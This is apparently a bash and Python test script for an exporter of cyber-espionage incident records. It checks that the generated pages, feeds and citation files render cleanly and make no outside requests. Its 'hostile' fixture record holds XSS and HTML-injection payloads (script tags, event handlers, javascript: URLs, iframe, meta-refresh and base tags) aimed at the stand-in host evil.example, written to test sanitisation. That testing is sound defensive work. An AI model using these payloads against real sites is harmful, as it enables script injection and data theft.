#!/usr/bin/env bash
# Pages that leave, in other people's readers: Chromium, with script and without, finds title and rows, complains of
# nothing and asks nobody else for anything; of a record that tries everything it runs no script; lynx reads a page;
# feedparser reads the feed; pandoc's citeproc and biber cite every source. Takes the program's path; installs feedparser
# in a folder of its own.
set -euo pipefail
source "$(dirname "$0")/judge" "$1" feedparser==6.0.14

export() { "$program" export --incidents "$here/incidents" --allow-red "$@" 2>/dev/null; }
export --format site --to "$work/site"
export --format csl --to "$work/site/all.csl.json"
export --format bibtex --to "$work/site/all.bib"

mkdir "$work/records"
cat >"$work/records/hostile.toml" <<'RECORD'
id      = "hostile"
title   = '''</title></style></h1><script>document.title="ran"</script><img src=x onerror="document.title='ran'">'''
names   = ['''<iframe src="https://evil.example/frame"></iframe>''']
kind    = "operation"
date    = "2023"
tlp     = "clear"
summary = '''"><svg onload="document.title='ran'"><style>@import "https://evil.example/css";</style><link rel=stylesheet href=https://evil.example/link><meta http-equiv=refresh content="0;url=https://evil.example/refresh">'''

[source.web]
title     = '''<a href="javascript:document.title='ran'">x</a>'''
publisher = '''<base href="https://evil.example/">'''
url       = "javascript:document.title='ran'"

[source.second]
title     = "A page"
publisher = "A site"
url       = '''https://evil.example/"onmouseover="document.title='ran'"'''

[source.third]
title     = "A page that may be followed"
publisher = "A site"
url       = "https://evil.example/followed?a=1&b='2'"

[party."<script>"]
name    = '''<script src="https://evil.example/party.js"></script>'''
role    = "initiator"
country = "RU"

[[claim]]
type  = "attribution"
text  = '''<details open ontoggle="alert(1)">&lt;script&gt;&#60;script&#62;alert(1)</script>'''
by    = '''' onclick='alert(1)'''
src   = ["web", "second", "third"]
quote = '''<object data="https://evil.example/object"></object><form action="https://evil.example/form"><button autofocus onfocus="alert(1)">'''
RECORD
leave() { "$program" export --incidents "$work/records" --no-defang "$@" 2>/dev/null; }
leave --format site --to "$work/site/theirs"
leave --format html --to "$work/site/theirs/one.html"
leave --format brief-html --to "$work/site/theirs/brief.html"

"$work/venv/bin/python" - "$work" <<'PYTHON'
import functools, html, http.server, json, pathlib, re, subprocess, sys, threading
import feedparser

work = pathlib.Path(sys.argv[1])
site = work / "site"
asked = []
# Whoever has forbidden every script, as the settings of the browser say it.
(work / "profile-without/Default").mkdir(parents=True)
forbidden = {"profile": {"default_content_setting_values": {"javascript": 2}}}
(work / "profile-without/Default/Preferences").write_text(json.dumps(forbidden))


class Handler(http.server.SimpleHTTPRequestHandler):
    def log_request(self, *_):
        asked.append(self.path)

    def log_error(self, *_):
        pass


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=site))
threading.Thread(target=server.serve_forever, daemon=True).start()


def opened(path, script=True):
    """The page as Chromium has it in the end, what it complained of, and all that was asked for meanwhile."""
    asked.clear()
    net = work / "net.json"
    command = ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
               "--disable-component-update", "--disable-sync", "--no-first-run",
               f"--user-data-dir={work}/profile-{'with' if script else 'without'}",
               "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1", "--enable-logging=stderr",
               f"--log-net-log={net}", "--dump-dom",
               f"http://127.0.0.1:{server.server_port}/{path}"]
    run = subprocess.run(command, capture_output=True, text=True, timeout=60)
    said = [line for line in run.stderr.splitlines() if "CONSOLE" in line]
    return run.stdout, said, list(asked) + re.findall(r"[\w.]*evil\.example[^\"]*", net.read_text())


def title(page):
    return html.unescape(re.search("<title>(.*?)</title>", page, re.S)[1])


records = json.loads((site / "downloads/incidents.json").read_text())
one = next(record for record in records if record["id"] == "al-homeland-justice-attack")
for script in (True, False):
    page, said, requests = opened("index.html", script)
    assert page, "Chromium gave no page back"
    assert title(page) == "Incidents of cyber espionage", title(page)
    assert page.count('<li><span class="when">') == len(records)
    assert ('<input type="search"' in page) == script, script
    assert not said and requests == ["/index.html"], (said, requests)
    page, said, requests = opened(f"incidents/{one['id']}.html", script)
    assert title(page) == one["title"], title(page)
    assert len(re.findall(r'<li id="c\d+"', page)) == len(one["claim"])
    assert len(re.findall(r'<li id="s\d+"', page)) == len(one["source"])
    assert not said and len(requests) == 1, (said, requests)

# Whether we would notice: with a script in it a page complains, and without its policy the script runs and asks.
bad = (site / "timeline.html").read_text().replace("</nav>", '</nav><script>document.title="ran"</script><img src="https://evil.example/x">')
(site / "bad.html").write_text(bad)
page, said, requests = opened("bad.html")
assert title(page) == "Timeline" and len(said) == 2 and len(requests) == 1, (title(page), said, requests)
# Under another name: what changed within the same second would be taken from the cache.
(site / "bare.html").write_text(re.sub('<meta http-equiv="Content-Security-Policy"[^>]*>', "", bad))
page, said, requests = opened("bare.html")
assert title(page) == "ran" and len(requests) > 1, (title(page), requests)

for path in ("index.html", "incidents/hostile.html", "actors/index.html", "one.html", "brief.html"):
    page, said, requests = opened(f"theirs/{path}")
    assert title(page) != "ran" and not said and len(requests) == 1, (path, title(page), said, requests)
    body = page.split("</head>")[1]
    assert not re.search(r"<(img|iframe|object|form|link|meta|base|style)\b|<\w[^<>]*\son\w+=", body), path
    assert body.count("<script") == (path == "index.html"), path
    out = re.findall(r'<\w+ href="(\w+:[^"]*)"', body)
    assert set(out) <= {"https://evil.example/followed?a=1&amp;b='2'"}, (path, out)

text = subprocess.run(["lynx", "-dump", "-nolist", "-width=200", str(site / "incidents" / f"{one['id']}.html")],
                      capture_output=True, text=True, check=True).stdout
assert one["title"] in text and one["claim"][0]["text"].split(",")[0] in text, text

feed = feedparser.parse((site / "atom.xml").read_bytes())
assert not feed.bozo and len(feed.entries) == 50, (feed.get("bozo_exception"), len(feed.entries))
titles = {record["id"]: record["title"] for record in records}
for entry in feed.entries:
    name = entry.link.rsplit("/", 1)[-1].removesuffix(".html")
    assert entry.title == titles[name] and (site / entry.link).is_file() and entry.updated_parsed, entry
items = json.loads((site / "feed.json").read_text())["items"]
assert [item["id"] for item in items] == [entry.id for entry in feed.entries]

sources = sum(len(record["source"]) for record in records)
(work / "cite.md").write_text('---\nnocite: "@*"\n---\n')
for ending in ("csl.json", "bib"):
    cited = subprocess.run(["pandoc", "--citeproc", "--bibliography", str(site / f"all.{ending}"), "-t", "html",
                            str(work / "cite.md")], capture_output=True, text=True, check=True)
    assert cited.stdout.count('class="csl-entry"') == sources and not cited.stderr, (ending, cited.stderr)
told = subprocess.run(["biber", "--tool", "--validate-datamodel", "--output-file", str(work / "out.bib"),
                       str(site / "all.bib")], capture_output=True, text=True, check=True).stdout
odd = [line for line in told.splitlines() if re.match("WARN|ERROR", line) and "one of 'date, year'" not in line]
assert not odd, odd[:5]
print(f"site: {len(records)} records, {len(list(site.rglob('*.html')))} pages, {len(feed.entries)} in the feed, {sources} sources cited")
PYTHON
